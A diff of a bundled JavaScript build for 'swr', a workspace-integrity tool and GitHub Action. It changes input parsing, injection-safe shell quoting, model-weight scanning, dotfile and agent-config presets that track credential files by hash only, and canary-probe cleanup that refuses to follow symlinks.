-                const id = await quietly(() => cache.saveCache([spell(abs)], key));
-                return id === -1 ? 'failed' : 'saved';
-            }
-            catch (err) {
-                const name = err instanceof Error ? err.name : '';
-                if (name === 'ReserveCacheError' || /already exists/i.test(String(err)))
-                    return 'exists';
-                note(`save of ${key} failed`, err);
-                return 'failed';
-            }
-        }
-    };
-}
-
-;// CONCATENATED MODULE: ./src/action/inputs.ts
-/**
- * Typed, strict readers for the Action's inputs. Unknown values are refused with the input named:
- * a typo in `fail-on` must not quietly turn a gate off.
- */
-
-
-
-
-function choice(name, allowed, fallback) {
-    const v = core/* getInput */.V4(name).trim();
-    if (v === '')
-        return fallback;
-    if (!allowed.includes(v))
-        throw new UsageError(`input ${name}: "${v}" is not one of ${allowed.join(', ')}`);
-    return v;
-}
-function bool(name, fallback) {
-    const v = core/* getInput */.V4(name).trim().toLowerCase();
-    if (v === '')
-        return fallback;
-    if (v === 'true')
-        return true;
-    if (v === 'false')
-        return false;
-    throw new UsageError(`input ${name}: "${v}" is not true or false`);
-}
-function inputs_int(name, min, max) {
-    const v = core/* getInput */.V4(name).trim();
-    if (v === '')
-        return undefined;
-    if (!/^\d+$/.test(v) || Number(v) < min || Number(v) > max)
-        throw new UsageError(`input ${name}: "${v}" is not a whole number from ${min} to ${max}`);
-    return Number(v);
-}
-function list(name) {
-    return core/* getInput */.V4(name)
-        .split(/[\n,]/)
-        .map(s => s.trim())
-        .filter(Boolean);
-}
-/** A canary measures: by default what it finds never fails the job. */
-function defaultFailOn(command) {
-    if (command === 'doctor' || command === 'restore')
-        return 'unrepairable';
-    if (SURVIVAL_COMMANDS.includes(command))
-        return 'never';
-    return 'damage';
-}
-function canaryKey() {
-    const v = core/* getInput */.V4(Inputs.CanaryKey).trim() || 'default';
-    if (!/^[A-Za-z0-9._-]{1,64}$/.test(v))
-        throw new UsageError(`input ${Inputs.CanaryKey}: "${v}" must be 1-64 of A-Z a-z 0-9 . _ -`);
-    return v;
-}
-function readInputs(env) {
-    const command = choice(Inputs.Command, COMMANDS, 'check');
-    // The manifest path is relative to the workspace input ($GITHUB_WORKSPACE by default); the
-    // directory it describes is the one it records (relative to itself), as with the CLI.
-    const root = external_node_path_default().resolve(env.GITHUB_WORKSPACE || process.cwd());
-    const base = external_node_path_default().resolve(root, core/* getInput */.V4(Inputs.Workspace).trim() || '.');
-    const manifest = external_node_path_default().resolve(base, core/* getInput */.V4(Inputs.Manifest).trim() || '.swr/manifest.json');
-    const workspace = undefined;
-    const hmacKey = core/* getInput */.V4(Inputs.HmacKey);
-    const approve = core/* getInput */.V4(Inputs.ApproveDigest).trim();
-    if (approve && !/^[0-9a-fA-F]{64}$/.test(approve))
-        throw new UsageError(`input ${Inputs.ApproveDigest}: not a 64-digit hex digest`);
-    const sarif = core/* getInput */.V4(Inputs.Sarif).trim();
-    return {
-        command,
-        manifest,
-        workspace,
-        root,
-        only: list(Inputs.Only),
-        deep: bool(Inputs.Deep, false),
-        jobs: inputs_int(Inputs.Jobs, 1, 32),
-        timeout: inputs_int(Inputs.Timeout, 1, 86400),
-        hmacKey: hmacKey === '' ? undefined : hmacKey,
-        trustedSigners: core/* getInput */.V4(Inputs.TrustedSigners),
-        require: choice(Inputs.Require, ['hmac', 'mldsa', 'both'], 'mldsa'),
-        minVersion: inputs_int(Inputs.MinVersion, 1, Number.MAX_SAFE_INTEGER),
-        approveDigest: approve || undefined,
-        failOn: choice(Inputs.FailOn, FAIL_ON, defaultFailOn(command)),
-        annotations: bool(Inputs.Annotations, true),
-        summary: bool(Inputs.Summary, true),
-        sarif: sarif ? external_node_path_default().resolve(base, sarif) : undefined,
-        cacheLookup: bool(Inputs.CacheLookup, false),
-        canaryWorkspace: base,
-        canaryAt: list(Inputs.CanaryAt),
-        canaryVolatile: list(Inputs.CanaryVolatile),
-        canaryLargeBytes: inputs_int(Inputs.CanaryLargeBytes, 0, 16 * 1024 * 1024 * 1024),
-        canaryHome: bool(Inputs.CanaryHome, true),
-        canaryKey: canaryKey(),
-        record: bool(Inputs.Record, false)
-    };
-}
-
-;// CONCATENATED MODULE: ./src/action/policy.ts
-
-function actionPolicy(m, inputs, env, stateDir) {
-    return makePolicy(m, {
-        stateDir,
-        require: inputs.require,
-        hmacKeyText: inputs.hmacKey,
-        local: false,
-        trustedSigners: inputs.trustedSigners ? [inputs.trustedSigners] : [],
-        minVersion: inputs.minVersion,
-        approveDigest: inputs.approveDigest,
-        run: { repository: env.GITHUB_REPOSITORY, ref: env.GITHUB_REF },
-        now: new Date()
+function planTree(ctx, name, blobs) {
+    const root = path.join(ctx.workspace, name);
+    const inner = [
+        ...ctx.cov.trackedBelow(name),
+        ...blobs.flatMap(b => (b.startsWith(name + '/') ? [b.slice(name.length + 1)] : []))
+    ];
+    const ignore = [...VOLATILE_DIRS, ...VCS_DIRS, SWR_DIR, ...inner.sort().map(literalRule)];
+    const ignored = ignoreMatcher(ignore);
+    const markers = TREE_MARKERS.filter(m => {
+        const st = lstatOf(path.join(root, m));
+        return st?.isFile() === true && st.size > 0 && !ignored(m, m);
     });
+    const { source, anyFile } = firstSourceFile(ctx, root, ignored);
+    if (!anyFile)
+        return undefined;
+    if (markers.length === 0 && source === undefined)
+        return { why: 'no project marker or source file in it: add it with "swr add" if it matters' };
+    const sentinels = [...new Set([...markers.slice(0, 2), ...(source ? [source] : [])])];
+    return { path: name, kind: 'tree', ignore, sentinels };
+}
+/**
+ * The first non-empty source file in the tree walk's order, honouring the tree's ignore rules,
+ * and whether the tree holds any file at all.
+ */
+function firstSourceFile(ctx, root, ignored) {
+    const budget = scanBudget();
+    let anyFile = false;
+    const walk = (absDir, relDir) => {
+        for (const name of listDir(absDir)) {
+            const rel = joinRel(relDir, name);
+            const abs = path.join(absDir, name);
+            if (!budget.take())
+                return undefined;
+            if (ctx.exclude.has(abs))
+                continue;
+            const st = lstatOf(abs);
+            if (ignored(rel, name, st?.isDirectory() === true))
+                continue;
+            if (st?.isDirectory()) {
+                const found = walk(abs, rel);
+                if (found)
+                    return found;
+            }
+            else if (st) {
+                anyFile = true;
+                if (st.isFile() && st.size > 0 && SOURCE_FILE.test(name))
+                    return rel;
+            }
+        }
+        return undefined;
+    };
+    const source = walk(root, '');
+    return { source, anyFile };
+}
+
+;// CONCATENATED MODULE: ./src/core/shell-quote.ts
+/**
+ * The one way swr writes a string into shell text it generates (exported recipe scripts, the
+ * command lines it suggests). The result is a single word on a single line whatever the string
+ * holds: a newline in a signed path or a hostile file name can never end a comment or start a
+ * command.
+ */
+
+const PLAIN = /^[A-Za-z0-9_/.,:@%+=-]+$/;
+function hasControl(s) {
+    for (let i = 0; i < s.length; i++)
+        if (isControl(s.charCodeAt(i)))
+            return true;
+    return false;
+}
+const shell_quote_NAMED = { '\n': '\\n', '\r': '\\r', '\t': '\\t' };
+/**
+ * `word` as one shell word: as it is when plainly safe, else single-quoted; a word holding a
+ * control or bidi character is ANSI-C quoted (`$'a\nb'`, bash, zsh and POSIX.1-2024 shells), so it
+ * still reads back as exactly `word` and never spans two lines.
+ */
+function shell_quote_shellQuote(word) {
+    if (PLAIN.test(word))
+        return word;
+    if (!hasControl(word))
+        return `'${word.replace(/'/g, `'\\''`)}'`;
+    let out = '';
+    for (const ch of word) {
+        const c = ch.codePointAt(0) ?? 0;
+        if (ch === '\\' || ch === "'")
+            out += `\\${ch}`;
+        else if (shell_quote_NAMED[ch])
+            out += shell_quote_NAMED[ch];
+        // UTF-8 bytes, not \u escapes: bash decodes \u by the locale, and a C1 control is two bytes.
+        else if (isControl(c))
+            for (const b of Buffer.from(ch))
+                out += `\\x${b.toString(16).padStart(2, '0')}`;
+        else
+            out += ch;
+    }
+    return `$'${out}'`;
+}
+
+;// CONCATENATED MODULE: ./src/core/author/hints.ts
+/**
+ * Command lines the authoring commands suggest, spelled so they can be pasted into a POSIX shell
+ * as they are: every word that is not plainly safe is single-quoted.
+ */
+
+
+
+
+
+function commandLine(words) {
+    return words.map(shellQuote).join(' ');
+}
+function targetWords(t) {
+    return [
+        ...(t.manifest ? ['-m', t.manifest] : []),
+        ...(t.workspace ? ['--workspace', t.workspace] : [])
+    ];
+}
+/** `swr add PATH --ignore ...` as typed from the current directory. */
+function addCommand(pathArg, ignore, t = {}) {
+    return commandLine([
+        'swr',
+        'add',
+        pathArg,
+        ...ignore.flatMap(r => ['--ignore', r]),
+        ...targetWords(t)
+    ]);
+}
+/** An entry that nothing can bring back: no recipe, no cache source, no escrowed bytes. */
+function lacksRecipe(e) {
+    return restoreSources(e).length === 0 && !(e.kind === 'file' && e.escrow);
+}
+/**
+ * How to give a tracked entry a recipe. `swr add` refuses a path already tracked, so the recipe
+ * goes into the manifest by hand and the edit is approved by signing it.
+ */
+function recipeHint(manifestShown, t = {}) {
+    const sign = commandLine(['swr', 'sign', ...targetWords(t)]);
+    return `add "restore": "<shell command>" to the entry in ${manifestShown}, then run ${sign} (for a signed manifest add --approve-digest with the digest "swr verify" shows)`;
+}
+/** For a small file that is no secret: the escrow command that restores it with no recipe. */
+function escrowHint(e, t = {}) {
+    if (e.kind !== 'file' || e.expect.size > ESCROW_MAX_BYTES || isSecretPath(e.path))
+        return undefined;
+    return commandLine(['swr', 'escrow', '--only', e.id, ...targetWords(t)]);
+}
+
+;// CONCATENATED MODULE: ./src/core/author/models.ts
+/**
+ * `models`: model weights of any size at or above a threshold, anywhere in the workspace. Unlike
+ * the other scans this one enters volatile directories: models usually live in caches
+ * (~/.cache/huggingface, ~/.cache/torch) and build outputs, exactly where wipes strike. Only VCS
+ * metadata, .swr and swr's own files are skipped. Symlinks are never followed out of the
+ * workspace; a model name that is a symlink to a file inside it (the Hugging Face cache keeps
+ * `snapshots/<rev>/model.safetensors -> ../../blobs/<sha>`) stands for the file it points to.
+ * Tracking records what a check reads (size, head/tail digest), not a full hash, unless asked.
+ */
+
+
+
+
+
+
+
+
+
+
+const MODEL_EXTENSIONS = (/* unused pure expression or super */ null && (['.gguf', '.safetensors', '.onnx', '.bin', '.pt', '.pth', '.ckpt']));
+const DEFAULT_MIN_MODEL_BYTES = (/* unused pure expression or super */ null && (1024 * 1024));
+function isModelName(name) {
+    const lower = name.toLowerCase();
+    return MODEL_EXTENSIONS.some(ext => lower.endsWith(ext) && lower.length > ext.length);
+}
+function findModels(workspace, entries, exclude, minBytes) {
+    const root = fs.realpathSync(workspace);
+    const budget = scanBudget();
+    const found = new Map();
+    const keep = (m) => {
+        if (pathProblem(m.path))
+            return;
+        const seen = found.get(m.path);
+        if (!seen || (seen.via && !m.via))
+            found.set(m.path, m);
+    };
+    const walk = (absDir, relDir) => {
+        for (const name of listDir(absDir)) {
+            if (!budget.take())
+                return;
+            const abs = path.join(absDir, name);
+            if (isMetaName(name) || exclude.has(abs))
+                continue;
+            const rel = joinRel(relDir, name);
+            const st = lstatOf(abs);
+            if (st?.isDirectory())
+                walk(abs, rel);
+            else if (!st || !isModelName(name))
+                continue;
+            else if (st.isFile()) {
+                if (st.size >= minBytes)
+                    keep({ path: rel, bytes: st.size });
+            }
+            else if (st.isSymbolicLink()) {
+                const target = linkedFile(root, abs, minBytes);
+                if (target)
+                    keep({ ...target, via: rel });
+            }
+        }
+    };
+    walk(root, '');
+    const cov = coverageOf(entries);
+    const models = [...found.values()]
+        .map(m => {
+        const tracked = cov.trackedBy(m.path);
+        return tracked ? { ...m, tracked } : m;
+    })
+        .sort((a, b) => b.bytes - a.bytes || (a.path < b.path ? -1 : 1));
+    return { models, truncated: budget.exhausted };
+}
+/** The regular file a symlink leads to, when it is inside the workspace and large enough. */
+function linkedFile(root, link, minBytes) {
+    let real;
+    try {
+        real = fs.realpathSync(link);
+    }
+    catch {
+        return undefined;
+    }
+    if (!isInside(root, real) || real === root)
+        return undefined;
+    const st = lstatOf(real);
+    if (!st?.isFile() || st.size < minBytes)
+        return undefined;
+    return { path: path.relative(root, real).split(path.sep).join('/'), bytes: st.size };
+}
+/**
+ * A tier-3 blob entry for a model: exact size and head/tail digest, which read 2 MiB whatever the
+ * size, so tracking a cache of 100 GB takes seconds. The full sha256 (read by `check --deep`)
+ * costs reading every byte; `fullHash` records it through the ordinary capture.
+ */
+async function captureModel(workspace, req, taken, opts) {
+    if (opts.fullHash)
+        return captureEntry(workspace, { ...req, kind: 'blob', tier: 3 }, taken, {
+            pool: opts.pool ?? {}
+        });
+    if (taken.has(req.id))
+        throw new UsageError(`entry "${req.id}" already exists in the manifest`);
+    const loc = locateInside(workspace, req.path);
+    if (loc.state !== 'present')
+        throw new UsageError(`${req.path}: cannot add: ${loc.why}`);
+    if (!loc.st.isFile())
+        throw new UsageError(`${req.path}: cannot add as blob: it is not a regular file`);
+    const ht = hashHeadTail(loc.abs);
+    const expect = { size: ht.size, headtail: ht.sha256, mode: octal(ht.mode) };
+    return { entry: { id: req.id, kind: 'blob', path: req.path, tier: 3, needs: [], expect } };
+}
+
+;// CONCATENATED MODULE: ./src/core/author/presets.ts
+/**
+ * Presets: the files common sandboxes keep their setup in (shell profiles, coding-agent settings),
+ * as paths relative to $HOME, the workspace of ~/.swr/manifest.json. Only paths that exist and are
+ * not tracked yet are added. Secrets among them (see secrets.ts) become tier-0 `file` entries:
+ * tracked by hash, never escrowed.
+ *
+ * Left out on purpose: files the tools rewrite on every run (~/.claude.json with its counters and
+ * per-project history, session logs, histories, caches), because a hash of them would fail every
+ * check; and large installed payloads (extensions) that a reinstall brings back.
+ */
+
+
+
+
+
+
+
+
+const PRESETS = [
+    {
+        name: 'shell',
+        description: 'shell profiles, git and ssh configuration, and the logins a shell uses',
+        paths: [
+            '.bashrc',
+            '.bash_profile',
+            '.bash_login',
+            '.bash_logout',
+            '.bash_aliases',
+            '.profile',
+            '.zshrc',
+            '.zshenv',
+            '.zprofile',
+            '.zlogin',
+            '.inputrc',
+            '.vimrc',
+            '.tmux.conf',
+            '.config/fish/config.fish',
+            '.config/fish/functions',
+            '.gitconfig',
+            '.config/git/config',
+            '.config/git/ignore',
+            '.ssh/config',
+            '.ssh/authorized_keys',
+            '.ssh/id_*',
+            '.netrc',
+            '.git-credentials',
+            '.npmrc',
+            '.pypirc',
+            '.config/gh/config.yml',
+            '.config/gh/hosts.yml'
+        ]
+    },
+    {
+        name: 'claude-code',
+        description: 'Claude Code: user settings, memory, commands, agents, skills, hooks, login',
+        paths: [
+            '.claude/settings.json',
+            '.claude/settings.local.json',
+            '.claude/CLAUDE.md',
+            '.claude/commands',
+            '.claude/agents',
+            '.claude/skills',
+            '.claude/hooks',
+            '.claude/rules',
+            '.claude/output-styles',
+            '.claude/.credentials.json'
+        ]
+    },
+    {
+        name: 'codex',
+        description: 'OpenAI Codex CLI: config.toml, AGENTS.md, prompts, skills, rules, login',
+        paths: [
+            '.codex/config.toml',
+            '.codex/AGENTS.md',
+            '.codex/AGENTS.override.md',
+            '.codex/prompts',
+            '.codex/agents',
+            '.codex/skills',
+            '.codex/rules',
+            '.codex/auth.json'
+        ]
+    },
+    {
+        name: 'aider',
+        description: 'aider: its configuration files and the .env holding API keys',
+        paths: ['.aider.conf.yml', '.aider.model.settings.yml', '.aider.model.metadata.json', '.env']
+    },
+    {
+        name: 'cursor',
+        description: 'Cursor: MCP servers, CLI config, editor settings, keybindings, snippets',
+        paths: [
+            '.cursor/mcp.json',
+            '.cursor/cli-config.json',
+            '.cursor/rules',
+            '.config/Cursor/User/settings.json',
+            '.config/Cursor/User/keybindings.json',
+            '.config/Cursor/User/snippets'
+        ]
+    },
+    {
+        name: 'gemini',
+        description: 'Gemini CLI: settings, GEMINI.md, commands, login',
+        paths: [
+            '.gemini/settings.json',
+            '.gemini/GEMINI.md',
+            '.gemini/commands',
+            '.gemini/oauth_creds.json'
+        ]
+    }
+];
+function presetNamed(name) {
+    const p = PRESETS.find(x => x.name === name);
+    if (!p)
+        throw new UsageError(`preset "${name}": unknown (known: ${PRESETS.map(x => x.name).join(', ')})`);
+    return p;
+}
+
+function planPreset(workspace, preset, entries) {
+    const cov = coverageOf(entries);
+    const plan = { requests: [], skipped: [], absent: 0 };
+    for (const rel of preset.paths.flatMap(p => expand(workspace, p))) {
+        const loc = locateInside(workspace, rel);
+        if (loc.state === 'missing')
+            plan.absent++;
+        else if (loc.state === 'escapes')
+            plan.skipped.push({ path: rel, why: loc.why });
+        else {
+            const by = cov.trackedBy(rel);
+            const st = loc.st;
+            if (by)
+                plan.skipped.push({ path: rel, why: `already tracked by "${by.id}"` });
+            else if (!st.isFile() && !st.isDirectory() && !st.isSymbolicLink())
+                plan.skipped.push({ path: rel, why: 'not a file, directory or symlink' });
+            else
+                plan.requests.push(requestFor(rel, st.isFile(), st.isDirectory()));
+        }
+    }
+    return plan;
+}
+function requestFor(rel, isFile, isDir) {
+    if (isSecretPath(rel))
+        return { path: rel, ...(isFile ? { kind: 'file' } : {}), tier: 0, note: SECRET_NOTE };
+    return isDir ? { path: rel, kind: 'tree', ignore: [...VCS_DIRS] } : { path: rel };
+}
+/** A preset path, or the names its glob matches now (sorted). */
+function expand(workspace, p) {
+    const base = path.posix.basename(p);
+    if (!/[*?[]/.test(base))
+        return [p];
+    const dir = path.posix.dirname(p);
+    const match = picomatch(base, { dot: true });
+    return listDir(path.join(workspace, dir))
+        .filter(n => match(n))
+        .map(n => `${dir}/${n}`);
+}
+
+;// CONCATENATED MODULE: ./src/core/author/retighten.ts
+/**
+ * `retighten`: raise loose tree bounds to what is on disk now, never loosening them. A tree's
+ * min_files goes up to the current file count when that is higher, and its max_files comes down
+ * to the current count when that is lower (or is set when there was none). Only trees that verify
+ * right now are touched: a damaged tree's count is the damage, not the truth.
+ */
+
+
+/** The trees `only` names (every tree without it); a named entry that is no tree is bad usage. */
+function treesToRetighten(entries, only) {
+    const selected = selectEntries(entries, only);
+    const notTrees = only && only.length > 0 ? selected.filter(e => e.kind !== 'tree') : [];
+    const first = notTrees[0];
+    if (first)
+        throw new UsageError(`--only ${first.id}: a ${first.kind} entry has no file-count bounds (retighten changes trees only)`);
+    return selected.filter((e) => e.kind === 'tree');
+}
+/** What to change, given each tree's finding from a check made just now. */
+function planRetighten(trees, findings) {
+    const byId = new Map(findings.map(f => [f.id, f]));
+    const plan = { changes: [], skipped: [] };
+    for (const e of trees) {
+        const f = byId.get(e.id);
+        const files = f?.found.files;
+        if (!f || f.status !== 'OK' || typeof files !== 'number') {
+            const why = f ? `${f.status}: ${f.detail}` : 'not checked';
+            plan.skipped.push({ id: e.id, why: `does not verify now (${why}); repair it first` });
+            continue;
+        }
+        plan.changes.push(...boundChanges(e, files));
+    }
+    return plan;
+}
+function boundChanges(e, files) {
+    const out = [];
+    if (files > e.expect.min_files)
+        out.push({ id: e.id, field: 'min_files', from: e.expect.min_files, to: files });
+    const max = e.expect.max_files;
+    if (max === undefined || files < max)
+        out.push({
+            id: e.id,
+            field: 'max_files',
+            from: max ?? null,
+            to: Math.max(files, e.expect.min_files)
+        });
+    return out;
+}
+/** Apply `changes` to the entries in place. */
+function applyRetighten(entries, changes) {
+    const byId = new Map(entries.map(e => [e.id, e]));
+    for (const c of changes) {
+        const e = byId.get(c.id);
+        if (e?.kind === 'tree')
+            e.expect[c.field] = c.to;
+    }
 }
 
 ;// CONCATENATED MODULE: ./src/core/canary/anchor.ts
@@ -45342,6 +45885,108 @@ function abbreviate(p) {
         .split('/')
         .map(seg => Buffer.byteLength(seg) > 60 ? `${seg.slice(0, 40)}…(${Buffer.byteLength(seg)} bytes)` : seg);
     return segs.length > 6 ? [...segs.slice(0, 2), '…', ...segs.slice(-2)].join('/') : segs.join('/');
+}
+
+;// CONCATENATED MODULE: ./src/core/canary/clean.ts
+/**
+ * Removing exactly what a planting made: each probe only while it is still the kind of thing that
+ * was planted (a probe name now holding a user's directory is left alone), then the directories
+ * the planting created, deepest first, only when empty.
+ */
+
+
+
+
+/**
+ * Where an anchored path is, resolved without following a symlink below its anchor (a probe's
+ * directory swapped for a link to elsewhere is not acted on); an absolute one (an --at path
+ * outside the workspace) must at least sit in a directory that is not a symlink.
+ */
+function locate(a, anchors) {
+    if (a.anchor !== 'abs')
+        return resolveNoFollow(anchors[a.anchor], a.rel);
+    const abs = resolveAnchored(a, anchors);
+    if (external_node_fs_default().lstatSync(external_node_path_default().dirname(abs), { throwIfNoEntry: false })?.isSymbolicLink())
+        throw new SymlinkRefusal(external_node_path_default().dirname(abs), 'is a symlink; not following it');
+    return abs;
+}
+function plantedKind(p) {
+    return p.expect.type === 'hardlink' ? 'file' : p.expect.type;
+}
+function removeIfPlanted(abs, kind, shown, out) {
+    const st = external_node_fs_default().lstatSync(abs, { throwIfNoEntry: false });
+    if (!st)
+        return;
+    const now = st.isSymbolicLink()
+        ? 'symlink'
+        : st.isDirectory()
+            ? 'dir'
+            : st.isFile()
+                ? 'file'
+                : 'other';
+    if (now !== kind) {
+        out.kept.push({ path: shown, why: `now a ${now}, not the ${kind} that was planted` });
+        return;
+    }
+    try {
+        if (kind === 'dir')
+            external_node_fs_default().rmdirSync(abs);
+        else
+            external_node_fs_default().unlinkSync(abs);
+        out.removed.push(shown);
+    }
+    catch (e) {
+        out.kept.push({ path: shown, why: e.code ?? String(e) });
+    }
+}
+function cleanLedger(ledger, anchors) {
+    const out = { removed: [], kept: [] };
+    // Links first, then files, then the empty directory a link points at.
+    const order = (p) => p.expect.type === 'symlink' ? 0 : p.expect.type === 'dir' ? 2 : 1;
+    for (const p of [...ledger.probes].sort((a, b) => order(a) - order(b))) {
+        let abs;
+        try {
+            abs = locate(p.path, anchors);
+        }
+        catch (e) {
+            if (!(e instanceof SymlinkRefusal))
+                throw e;
+            out.kept.push({ path: showAnchored(p.path), why: e.message });
+            continue;
+        }
+        removeIfPlanted(abs, plantedKind(p), showAnchored(p.path), out);
+        if (p.expect.type === 'hardlink') {
+            const peer = external_node_path_default().join(external_node_path_default().dirname(abs), p.expect.peer);
+            removeIfPlanted(peer, 'file', external_node_path_default().join(external_node_path_default().dirname(showAnchored(p.path)), p.expect.peer), out);
+        }
+    }
+    const dirs = ledger.locations.flatMap(l => l.created);
+    for (const d of dirs.reverse()) {
+        let abs;
+        try {
+            abs = locate(d, anchors);
+        }
+        catch (e) {
+            if (!(e instanceof SymlinkRefusal))
+                throw e;
+            out.kept.push({ path: showAnchored(d) + '/', why: e.message });
+            continue;
+        }
+        const st = external_node_fs_default().lstatSync(abs, { throwIfNoEntry: false });
+        if (!st?.isDirectory())
+            continue;
+        try {
+            external_node_fs_default().rmdirSync(abs);
+            out.removed.push(showAnchored(d) + '/');
+        }
+        catch {
+            out.kept.push({
+                path: showAnchored(d) + '/',
+                why: 'not empty: holds files that were not planted'
+            });
+        }
+    }
+    return out;
 }
 
 ;// CONCATENATED MODULE: ./src/core/canary/probes.ts
@@ -45545,12 +46190,12 @@ const MAX_LEDGER_BYTES = 8 * 1024 * 1024;
 function ledgerPath(stateDir) {
     return external_node_path_default().join(stateDir, CANARY_DIR, LEDGER_FILE);
 }
-function ledger_keyPath(stateDir) {
+function keyPath(stateDir) {
     return external_node_path_default().join(stateDir, CANARY_DIR, KEY_FILE);
 }
 /** The ledger key, or undefined when there is none (nothing was planted with this state). */
 function readKey(stateDir) {
-    const file = ledger_keyPath(stateDir);
+    const file = keyPath(stateDir);
     let fd;
     try {
         fd = external_node_fs_default().openSync(file, (external_node_fs_default()).constants.O_RDONLY | (external_node_fs_default()).constants.O_NOFOLLOW);
@@ -45579,7 +46224,7 @@ function ledgerKey(stateDir) {
         return have;
     state_dir_ensurePrivateDir(stateDir, CANARY_DIR);
     try {
-        atomic_writeFileAtomic(ledger_keyPath(stateDir), (0,external_node_crypto_.randomBytes)(32).toString('hex') + '\n', {
+        atomic_writeFileAtomic(keyPath(stateDir), (0,external_node_crypto_.randomBytes)(32).toString('hex') + '\n', {
             mode: 0o600,
             exclusive: true
         });
@@ -45590,11 +46235,11 @@ function ledgerKey(stateDir) {
     }
     const key = readKey(stateDir);
     if (!key)
-        throw bad(ledger_keyPath(stateDir), 'vanished after it was created');
+        throw bad(keyPath(stateDir), 'vanished after it was created');
     return key;
 }
 function macOf(key, body) {
-    return (0,external_node_crypto_.createHmac)('sha256', key).update(canonicalBytes(body)).digest('hex');
+    return (0,external_node_crypto_.createHmac)('sha256', key).update(canonical_canonicalBytes(body)).digest('hex');
 }
 function writeLedger(stateDir, ledger) {
     const key = ledgerKey(stateDir);
@@ -45732,108 +46377,6 @@ function removeLedger(stateDir) {
     fs.rmSync(ledgerPath(stateDir), { force: true });
 }
 
-;// CONCATENATED MODULE: ./src/core/canary/clean.ts
-/**
- * Removing exactly what a planting made: each probe only while it is still the kind of thing that
- * was planted (a probe name now holding a user's directory is left alone), then the directories
- * the planting created, deepest first, only when empty.
- */
-
-
-
-
-/**
- * Where an anchored path is, resolved without following a symlink below its anchor (a probe's
- * directory swapped for a link to elsewhere is not acted on); an absolute one (an --at path
- * outside the workspace) must at least sit in a directory that is not a symlink.
- */
-function locate(a, anchors) {
-    if (a.anchor !== 'abs')
-        return resolveNoFollow(anchors[a.anchor], a.rel);
-    const abs = resolveAnchored(a, anchors);
-    if (external_node_fs_default().lstatSync(external_node_path_default().dirname(abs), { throwIfNoEntry: false })?.isSymbolicLink())
-        throw new SymlinkRefusal(external_node_path_default().dirname(abs), 'is a symlink; not following it');
-    return abs;
-}
-function plantedKind(p) {
-    return p.expect.type === 'hardlink' ? 'file' : p.expect.type;
-}
-function removeIfPlanted(abs, kind, shown, out) {
-    const st = external_node_fs_default().lstatSync(abs, { throwIfNoEntry: false });
-    if (!st)
-        return;
-    const now = st.isSymbolicLink()
-        ? 'symlink'
-        : st.isDirectory()
-            ? 'dir'
-            : st.isFile()
-                ? 'file'
-                : 'other';
-    if (now !== kind) {
-        out.kept.push({ path: shown, why: `now a ${now}, not the ${kind} that was planted` });
-        return;
-    }
-    try {
-        if (kind === 'dir')
-            external_node_fs_default().rmdirSync(abs);
-        else
-            external_node_fs_default().unlinkSync(abs);
-        out.removed.push(shown);
-    }
-    catch (e) {
-        out.kept.push({ path: shown, why: e.code ?? String(e) });
-    }
-}
-function cleanLedger(ledger, anchors) {
-    const out = { removed: [], kept: [] };
-    // Links first, then files, then the empty directory a link points at.
-    const order = (p) => p.expect.type === 'symlink' ? 0 : p.expect.type === 'dir' ? 2 : 1;
-    for (const p of [...ledger.probes].sort((a, b) => order(a) - order(b))) {
-        let abs;
-        try {
-            abs = locate(p.path, anchors);
-        }
-        catch (e) {
-            if (!(e instanceof SymlinkRefusal))
-                throw e;
-            out.kept.push({ path: showAnchored(p.path), why: e.message });
-            continue;
-        }
-        removeIfPlanted(abs, plantedKind(p), showAnchored(p.path), out);
-        if (p.expect.type === 'hardlink') {
-            const peer = external_node_path_default().join(external_node_path_default().dirname(abs), p.expect.peer);
-            removeIfPlanted(peer, 'file', external_node_path_default().join(external_node_path_default().dirname(showAnchored(p.path)), p.expect.peer), out);
-        }
-    }
-    const dirs = ledger.locations.flatMap(l => l.created);
-    for (const d of dirs.reverse()) {
-        let abs;
-        try {
-            abs = locate(d, anchors);
-        }
-        catch (e) {
-            if (!(e instanceof SymlinkRefusal))
-                throw e;
-            out.kept.push({ path: showAnchored(d) + '/', why: e.message });
-            continue;
-        }
-        const st = external_node_fs_default().lstatSync(abs, { throwIfNoEntry: false });
-        if (!st?.isDirectory())
-            continue;
-        try {
-            external_node_fs_default().rmdirSync(abs);
-            out.removed.push(showAnchored(d) + '/');
-        }
-        catch {
-            out.kept.push({
-                path: showAnchored(d) + '/',
-                why: 'not empty: holds files that were not planted'
-            });
-        }
-    }
-    return out;
-}
-
 ;// CONCATENATED MODULE: ./src/core/canary/locations.ts
 /**
  * Where probes go: the places a runner, cache or sandbox treats differently. The workspace root, a
@@ -45857,9 +46400,9 @@ function checkAt(abs) {
     if (!st)
         return;
     if (st.isSymbolicLink())
-        throw new UsageError(`--at ${abs}: is a symlink; give the directory it points to`);
+        throw new errors_UsageError(`--at ${abs}: is a symlink; give the directory it points to`);
     if (!st.isDirectory())
-        throw new UsageError(`--at ${abs}: is not a directory`);
+        throw new errors_UsageError(`--at ${abs}: is not a directory`);
 }
 /** An --at path inside the workspace may not pass through a symlink there (the workspace is hostile). */
 function insideWorkspaceNoFollow(workspace, abs, at) {
@@ -45871,7 +46414,7 @@ function insideWorkspaceNoFollow(workspace, abs, at) {
     }
     catch (e) {
         if (e instanceof SymlinkRefusal)
-            throw new UsageError(`--at ${at}: ${e.message}`);
+            throw new errors_UsageError(`--at ${at}: ${e.message}`);
         throw e;
     }
 }
@@ -45881,16 +46424,16 @@ function planLocations(req) {
         { id: 'deep', abs: external_node_path_default().join(req.workspace, `swr-canary-${req.plantId}-deep`), make: 'deep' }
     ];
     const names = new Set(req.volatile);
-    for (const name of VOLATILE_DIRS)
+    for (const name of diagnose_VOLATILE_DIRS)
         if (isRealDir(external_node_path_default().join(req.workspace, name)))
             names.add(name);
     for (const name of [...names].sort()) {
         if (!/^[^/\0]{1,255}$/.test(name) || name === '.' || name === '..')
-            throw new UsageError(`--volatile ${JSON.stringify(name)}: give a directory name, not a path`);
+            throw new errors_UsageError(`--volatile ${JSON.stringify(name)}: give a directory name, not a path`);
         const abs = external_node_path_default().join(req.workspace, name);
         // A probe, the multi-GiB large one included, must never land outside through a planted link.
         if (external_node_fs_default().lstatSync(abs, { throwIfNoEntry: false })?.isSymbolicLink())
-            throw new UsageError(`--volatile ${JSON.stringify(name)}: ${JSON.stringify(name)} in the workspace is a symlink; not planting through it`);
+            throw new errors_UsageError(`--volatile ${JSON.stringify(name)}: ${JSON.stringify(name)} in the workspace is a symlink; not planting through it`);
         out.push({ id: `volatile:${name}`, abs, make: isRealDir(abs) ? 'exists' : 'mkdir' });
     }
     if (req.includeHome && isRealDir(req.home))
